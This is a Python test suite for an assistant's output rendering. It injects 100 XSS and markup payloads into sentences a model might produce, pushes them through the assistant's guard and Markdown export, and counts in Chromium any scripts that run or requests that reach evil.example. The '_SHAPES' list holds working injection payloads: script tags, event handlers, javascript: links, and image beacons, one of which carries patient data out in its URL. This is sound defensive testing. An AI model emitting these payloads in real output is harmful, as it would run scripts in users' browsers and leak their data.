"""Links, images, HTML and scripts in a model's words: does any of them work in a real browser, in an answer or an export?

Owns 100 payloads and the harshest reader of them: each is shown as a checked sentence, as a withheld one, and as an exported
Markdown file drawn by a renderer that allows HTML and links whatever looks like an address.
"""

from __future__ import annotations

import itertools
import shutil
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

from evals.suite import Suite

FULL = 100
HOST = "http://evil.example"
_RUN = "window.__ran=(window.__ran||0)+1"
_SHAPES = (
    "![x]({u}/i.png)", "[click]({u}/c)", "<img src={u}/i.png>", '<img src=x onerror="{r}">', "<script>{r}</script>",
    '<script src="{u}/s.js"></script>', "[a](javascript:{r})", "<a href='javascript:{r}'>a</a>", "{u}/bare", "www.evil.example/bare",
    "//evil.example/relative", "<iframe src={u}/f></iframe>", '<svg onload="{r}"></svg>', "<svg><image href='{u}/s.png'/></svg>",
    "<style>@import '{u}/s.css';</style>", '<p style="background:url({u}/b.png)">x</p>', "<link rel=stylesheet href={u}/l.css>",
    "<meta http-equiv=refresh content='0;url={u}'>", "<object data={u}/o></object>", "<embed src={u}/e>", "<video poster={u}/p.png></video>",
    "<audio src={u}/a.mp3 autoplay></audio>", "<form action={u}/f><input autofocus onfocus='{r}'></form>", "<base href={u}/>",
    "[x]: {u}/ref\n\n![x][x]", "<{u}/auto>", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "[x](data:text/html,<script>{r}</script>)", "&lt;img src={u}/e.png&gt;", "<details open ontoggle='{r}'>x</details>",
    "<math><mtext><img src={u}/m.png></mtext></math>", "<body onload='{r}'>", "<img srcset='{u}/1.png 1x'>", "<a href={u} ping={u}/p>x</a>",
    "<picture><source srcset={u}/q.png></picture>", "<input type=image src={u}/n.png>", "<track src={u}/t.vtt>", "`<img src={u}/c.png>`",
    "[![x]({u}/n.png)]({u}/n)", "<!--><img src={u}/k.png>-->", "<scr\u200bipt>{r}</scr\u200bipt>", "<img/src={u}/sl.png>",
    "<IMG SRC={u}/up.png>", "&#60;img src={u}/ent.png&#62;", "<x onclick='{r}' style='position:fixed;inset:0'>x</x>",
    "<template><img src={u}/tp.png></template>", "<noscript><img src={u}/ns.png></noscript>", "<portal src={u}/po></portal>",
    "<img src='{u}/q.png' loading=eager>", "![x]({u}/?q=PATIENT 'title')",
)  # fmt: skip
_AROUND = ("Give amoxicillin 500 mg. {p}", "{p} Continue for 5 days.")


def payloads(number: int = FULL) -> Iterator[str]:
    """Sentences with a payload each."""
    for around, shape in itertools.islice(itertools.product(_AROUND, _SHAPES), number):
        yield around.replace("{p}", shape.replace("{u}", HOST).replace("{r}", _RUN))


def documents(texts: list[str]) -> tuple[list[Any], list[str]]:
    """For each payload the blocks that the page draws, and the export's Markdown as HTML."""
    from markdown_it import MarkdownIt

    from assistant.conversation import _guard_out
    from assistant.domain.answer import Answer, Origin, Section, Sentence, Verdict, Withheld
    from assistant.domain.events import SentenceShown, SentenceWithheld
    from assistant.export.markdown import to_markdown

    reader = MarkdownIt("commonmark", {"html": True})
    blocks, pages = [], []
    for text in texts:
        shown = _guard_out(SentenceShown("answer", Sentence(text, Verdict.SUPPORTED, Origin.MODEL)))
        held = _guard_out(SentenceWithheld(Withheld(text, "not in the evidence")))
        assert isinstance(shown, SentenceShown)
        assert isinstance(held, SentenceWithheld)
        section = Section("answer", "Answer", (shown.sentence,))
        answer = Answer("ask", "en", "m", (section,), withheld=(held.withheld,))
        answer = replace(answer, text=to_markdown(answer))
        pages.append(reader.render(answer.text))
        # As kept and as drawn: the words of the history are those of the payload itself, not only the calmed ones.
        for words in (shown.sentence.text, text):
            blocks.append(_drawn(words))
    return blocks, pages


def _drawn(words: str) -> list[dict[str, Any]]:
    """The words in each kind of block that a model's, a guideline's or a user's text can stand in."""
    mark = [{"mark": "G1", "title": words}]
    line = {
        "kind": "line",
        "text": words,
        "tone": "model",
        "label": "model",
        "why": words,
        "marks": mark,
        "edit": "",
    }
    alert = {"kind": "alert", "tone": "red", "title": words, "text": words, "marks": mark, "small": words}
    held = {"kind": "withheld", "text": words, "why": words}
    return [
        line,
        alert,
        held,
        {"kind": "bubble", "text": words},
        {"kind": "fold", "title": words, "open": True, "items": [line]},
    ]


def in_browser(number: int = FULL, *, calmed: bool = True, opened: Any = None) -> dict[str, Any]:
    """Draws all of it in Chromium and counts what was asked for and what ran. Raises ImportError without a browser.

    ``opened`` is a Chromium that runs already (a test session has one); without it one is started and closed.

    ``calmed`` False shows the payloads as they are, which the count must notice.
    """
    from contextlib import ExitStack

    from playwright.sync_api import Error, sync_playwright

    texts = list(payloads(number))
    blocks, pages = documents(texts)
    if not calmed:
        pages = [f"<p>{text}</p>" for text in texts]
    script = (Path(__file__).parent.parent / "assistant" / "ui" / "components" / "sheet.js").read_text(
        "utf-8"
    )
    foreign: list[str] = []
    dialogs: list[str] = []

    def seen(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    with ExitStack() as stack:
        browser = opened
        if browser is None:
            chromium = (
                shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
            )
            if chromium is None:
                raise ImportError("no Chromium is installed")
            playwright = stack.enter_context(sync_playwright())
            browser = playwright.chromium.launch(
                executable_path=chromium, args=["--no-sandbox", "--disable-gpu"]
            )
            stack.callback(browser.close)
        page = browser.new_page()
        stack.callback(page.close)
        page.on(
            "request",
            lambda r: None if r.url.startswith(("data:", "blob:", "about:")) else foreign.append(r.url),
        )
        page.on("dialog", seen)
        page.route("**/*", lambda route: route.abort() if "evil" in route.request.url else route.continue_())
        page.set_content("<body></body>")
        drawn = page.evaluate(_DRAW, [script, blocks])
        drawn_texts = page.evaluate("document.body.innerText.split('amoxicillin').length - 1")
        page.wait_for_timeout(500)
        ran = page.evaluate("window.__ran || 0")
        after_page = len(foreign)
        for html in pages:
            try:
                page.set_content(f"<body>{html}</body>", wait_until="commit")
                ran += page.evaluate("window.__ran || 0")
            except Error:  # the text led the page away
                foreign.append("navigation")
        page.wait_for_timeout(500)
        links = sum('href="' in html or "<img" in html for html in pages)
    return {
        "payloads": number,
        "drawn": drawn,
        "texts_on_page": drawn_texts,
        "foreign_requests": len(foreign),
        "foreign_requests_page": after_page,
        "scripts_run": ran + len(dialogs),
        "live_links_in_exports": links,
        "rows": foreign[:20],
    }


_DRAW = """async ([script, all]) => {
  const module = await import(URL.createObjectURL(new Blob([script], {type: 'text/javascript'})));
  let drawn = 0;
  for (const blocks of all) {
    const root = document.body.appendChild(document.createElement('div'));
    root.appendChild(document.createElement('div')).className = 'sheet';
    module.default({data: {blocks, words: {}, language: 'en', chosen: null}, parentElement: root, setTriggerValue: () => {}, setStateValue: () => {}});
    drawn += root.innerText.trim().length > 0;
  }
  return drawn;
}"""


def run(_: Path) -> dict[str, Any]:
    try:
        return in_browser()
    except ImportError as missing:
        return {"payloads": 0, "not_run": str(missing)}


SUITE = Suite("payloads", "100 live links, images and scripts in a model's words, in a real browser", "", run)
